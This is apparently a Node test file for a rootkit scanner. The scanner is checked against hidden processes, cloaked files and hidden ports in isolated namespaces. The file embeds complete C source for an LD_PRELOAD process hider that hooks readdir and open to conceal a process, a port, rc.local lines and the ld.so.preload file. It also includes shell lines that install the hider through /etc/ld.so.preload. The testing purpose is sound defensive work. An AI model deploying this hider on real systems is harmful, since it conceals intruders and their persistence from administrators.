import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import fs from 'node:fs';
import path from 'node:path';
import { describe, it } from 'node:test';
import type { Finding } from '../src/model/finding';
import { compileC, inNamespace, SCAN_CMD, scanJson } from './helpers/namespace';

// Live rootkit cases run inside fresh PID + mount + network namespaces: the preload file is put
// into an overlay of /etc that exists only in that mount namespace, the hidden process and the
// scanner both run there, and everything dies with the namespace. The real /etc is never written.

const canNamespace = process.getuid?.() === 0 && spawnSync('unshare', ['--fork', '--pid', '--mount-proc', '--mount', 'true']).status === 0;
const hasGcc = spawnSync('gcc', ['--version']).status === 0;
const skip = !canNamespace ? 'needs root and unshare' : !hasGcc ? 'needs gcc' : false;

// A user-space process hider in the style of libprocesshider: readdir()/readdir64() skip /proc
// entries whose comm is "hsw_hidden" and any entry called ld.so.preload; open() of /etc/rc.local
// returns a copy without the lines that mention hsw_hidden, and of /proc/net/tcp without port 4444.
const HIDER_SOURCE = `
#define _GNU_SOURCE
#include <dirent.h>
#include <dlfcn.h>
#include <fcntl.h>
#include <stdarg.h>
#include <stdio.h>
#include <string.h>
#include <sys/mman.h>
#include <unistd.h>

static int filtered_open(const char *path, int fd) {
  const char *drop = NULL;
  if (strcmp(path, "/etc/rc.local") == 0) drop = "hsw_hidden";
  if (strcmp(path, "/proc/net/tcp") == 0 || strcmp(path, "/proc/self/net/tcp") == 0) drop = ":115C "; /* port 4444 */
  if (fd < 0 || drop == NULL) return fd;
  static char buf[1 << 20];
  ssize_t n = 0, r;
  while ((r = read(fd, buf + n, sizeof buf - 1 - n)) > 0) n += r;
  close(fd);
  buf[n] = 0;
  int out = memfd_create("filtered", 0);
  for (char *line = strtok(buf, "\\n"); line; line = strtok(NULL, "\\n")) {
    if (strstr(line, drop)) continue;
    write(out, line, strlen(line));
    write(out, "\\n", 1);
  }
  lseek(out, 0, SEEK_SET);
  return out;
}

#define OPEN_HOOK(fn) \\
  int fn(const char *path, int flags, ...) { \\
    static int (*orig)(const char *, int, ...); \\
    if (!orig) orig = dlsym(RTLD_NEXT, #fn); \\
    va_list ap; va_start(ap, flags); int mode = (flags & O_CREAT) ? va_arg(ap, int) : 0; va_end(ap); \\
    return filtered_open(path, orig(path, flags, mode)); \\
  }
OPEN_HOOK(open)
OPEN_HOOK(open64)

#define OPENAT_HOOK(fn) \\
  int fn(int dirfd, const char *path, int flags, ...) { \\
    static int (*orig)(int, const char *, int, ...); \\
    if (!orig) orig = dlsym(RTLD_NEXT, #fn); \\
    va_list ap; va_start(ap, flags); int mode = (flags & O_CREAT) ? va_arg(ap, int) : 0; va_end(ap); \\
    return filtered_open(path, orig(dirfd, path, flags, mode)); \\
  }
OPENAT_HOOK(openat)
OPENAT_HOOK(openat64)

static int dir_is_proc(DIR *d) {
  char link[64], target[256];
  snprintf(link, sizeof link, "/proc/self/fd/%d", dirfd(d));
  ssize_t n = readlink(link, target, sizeof target - 1);
  if (n < 0) return 0;
  target[n] = 0;
  return strcmp(target, "/proc") == 0;
}

static int hide(DIR *d, const char *name) {
  if (strcmp(name, "ld.so.preload") == 0) return 1;
  if (!dir_is_proc(d)) return 0;
  char path[300], comm[64] = {0};
  snprintf(path, sizeof path, "/proc/%s/comm", name);
  int fd = open(path, O_RDONLY);
  if (fd < 0) return 0;
  ssize_t n = read(fd, comm, sizeof comm - 1);
  close(fd);
  if (n <= 0) return 0;
  comm[strcspn(comm, "\\n")] = 0;
  return strcmp(comm, "hsw_hidden") == 0;
}

struct dirent *readdir(DIR *d) {
  static struct dirent *(*orig)(DIR *);
  if (!orig) orig = dlsym(RTLD_NEXT, "readdir");
  struct dirent *e;
  do e = orig(d); while (e && hide(d, e->d_name));
  return e;
}

struct dirent64 *readdir64(DIR *d) {
  static struct dirent64 *(*orig)(DIR *);
  if (!orig) orig = dlsym(RTLD_NEXT, "readdir64");
  struct dirent64 *e;
  do e = orig(d); while (e && hide(d, e->d_name));
  return e;
}
`;

// The "miner": listens on TCP 4444 (inside the test's network namespace) and waits.
const LISTENER_SOURCE = `
#include <netinet/in.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>
int main(void) {
  int s = socket(AF_INET, SOCK_STREAM, 0);
  int one = 1;
  setsockopt(s, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one);
  struct sockaddr_in a;
  memset(&a, 0, sizeof a);
  a.sin_family = AF_INET;
  a.sin_port = htons(4444);
  if (bind(s, (struct sockaddr *)&a, sizeof a) != 0 || listen(s, 1) != 0) return 1;
  sleep(120);
  return 0;
}
`;

/** Shell lines that give this mount namespace its own writable /etc (overlay, or a copy). */
function privateEtc(dir: string): string {
  return [
    `mkdir -p ${dir}/up ${dir}/work ${dir}/etc-copy`,
    `if ! mount -t overlay overlay -o lowerdir=/etc,upperdir=${dir}/up,workdir=${dir}/work /etc 2>/dev/null; then`,
    `  cp -a /etc/. ${dir}/etc-copy/ && mount --bind ${dir}/etc-copy /etc`,
    'fi',
  ].join('\n');
}

function rootkitFindings(findings: Finding[]): Finding[] {
  return findings.filter((f) => f.rule.startsWith('rootkit/'));
}

describe('rootkit detection on a live host (namespaces)', { skip }, () => {
  it('sees a process hidden by an ld.so.preload readdir hook, and says the scanner itself is hooked', () => {
    const hider = compileC('libhide.so', HIDER_SOURCE, ['-shared', '-fPIC', '-ldl']);
    const listener = compileC('hsw_hidden', LISTENER_SOURCE);
    try {
      // /tmp inside the namespace is a private tmpfs: the overlay and the evidence live there,
      // and the script prints what the test needs before the namespace (and its /tmp) is gone.
      const run = inNamespace(
        [
          'W=$(mktemp -d)',
          privateEtc('$W'),
          "printf '#!/bin/sh\\n/usr/lib/hsw_hidden &\\nexit 0\\n' > /etc/rc.local",
          `echo ${hider} > /etc/ld.so.preload`,
          'if grep -q hsw_hidden /etc/rc.local; then echo RC_VISIBLE; fi',
          'if grep -q ":115C " /proc/net/tcp; then echo PORT_VISIBLE; fi',
          `${listener} &`,
          'HPID=$!',
          'sleep 0.3',
          'echo "HPID=$HPID"',
          'if ps -e -o comm= | grep -qx hsw_hidden; then echo PS_SHOWS_IT; else echo PS_BLIND; fi',
          'if ls -a /etc | grep -qx ld.so.preload; then echo LS_SHOWS_PRELOAD; fi',
          `${SCAN_CMD} --json --sample 0.3 --evidence $W/evidence > $W/scan.json || true`,
          'echo "@@MANIFEST"; cat $W/evidence/manifest.json; echo "@@SCAN"; cat $W/scan.json',
        ].join('\n'),
      );
      assert.match(run.stdout, /PS_BLIND/, `the hook must blind ps first\n${run.stderr.slice(0, 2000)}`);
      assert.doesNotMatch(run.stdout, /LS_SHOWS_PRELOAD/);
      const hpid = Number(/HPID=(\d+)/.exec(run.stdout)?.[1]);
      const [, manifestText = '', scanText = ''] = run.stdout.split(/@@MANIFEST\n|@@SCAN\n/);
      const result = scanJson({ ...run, stdout: scanText });
      const found = rootkitFindings(result.findings);
      const summary = found.map((f) => `${f.rule} ${f.severity} ${f.path ?? ''} pid=${f.pid ?? ''}`).sort();
      assert.deepEqual(
        summary,
        [
          `rootkit/hidden-process critical ${listener} pid=${hpid}`,
          `rootkit/scanner-hooked critical ${hider} pid=`,
          'rootkit/scanner-hooked critical /etc/ld.so.preload pid=',
          'rootkit/cloaked-file critical /etc/rc.local pid=',
          'rootkit/hidden-port high  pid=',
        ].sort(),
      );
      assert.doesNotMatch(run.stdout, /PORT_VISIBLE/, 'the box must not see port 4444 in /proc/net/tcp');
      assert.match(found.find((f) => f.rule === 'rootkit/hidden-port')?.title ?? '', /Hidden tcp port 4444/);
      assert.doesNotMatch(run.stdout, /RC_VISIBLE/, 'grep on the box must not see the hidden line');
      const rc = found.find((f) => f.rule === 'rootkit/cloaked-file');
      assert.match(rc?.evidence.join('\n') ?? '', /short-read: stat says 39 bytes[\s\S]*hidden content: \/usr\/lib\/hsw_hidden &/);
      const hidden = found.find((f) => f.rule === 'rootkit/hidden-process');
      assert.ok(hidden);
      assert.equal(hidden.category, 'hidden_process');
      assert.equal(hidden.user, 'root');
      assert.ok(hidden.time, 'start time reported');
      const evidence = hidden.evidence.join('\n');
      assert.match(evidence, /cmdline: .*hsw_hidden/);
      assert.match(evidence, /missing from listing via: readdir/);
      assert.match(evidence, /socket: tcp 0\.0\.0\.0:4444 LISTEN/);
      // --evidence copied the hidden program and put its hash into the finding.
      const sha = createHash('sha256').update(fs.readFileSync(listener)).digest('hex');
      const manifest = JSON.parse(manifestText) as { executables: { pid: number; sha256: string | null }[] };
      assert.equal(manifest.executables.find((e) => e.pid === hpid)?.sha256, sha);
      assert.match(evidence, new RegExp(`executable sha256 ${sha}`));
      const preload = found.find((f) => f.path === '/etc/ld.so.preload');
      assert.match(preload?.evidence.join('\n') ?? '', new RegExp(`content: ${hider.replace(/[.]/g, '\\.')}`));
    } finally {
      fs.rmSync(path.dirname(hider), { recursive: true, force: true });
      fs.rmSync(path.dirname(listener), { recursive: true, force: true });
    }
  });

  it('reports no hidden process on a busy host full of short-lived processes', () => {
    const run = inNamespace(
      ['for i in 1 2 3 4; do ( while true; do /bin/true; done ) & done', 'sleep 0.3', `${SCAN_CMD} --json --sample 0.3 || true`].join('\n'),
    );
    const result = scanJson(run);
    // On a machine busy with other work the sweep can run out of its time budget: that is a gap
    // said as such (the scan is then incomplete), never a false hidden process.
    assert.deepEqual(
      result.gaps.filter((g) => g.collector === 'hiddenProcesses' && !/timed out/.test(g.reason)),
      [],
    );
    assert.deepEqual(
      result.findings.filter((f) => f.category === 'hidden_process').map((f) => f.title),
      [],
    );
    assert.deepEqual(
      rootkitFindings(result.findings).map((f) => f.title),
      [],
    );
  });
});
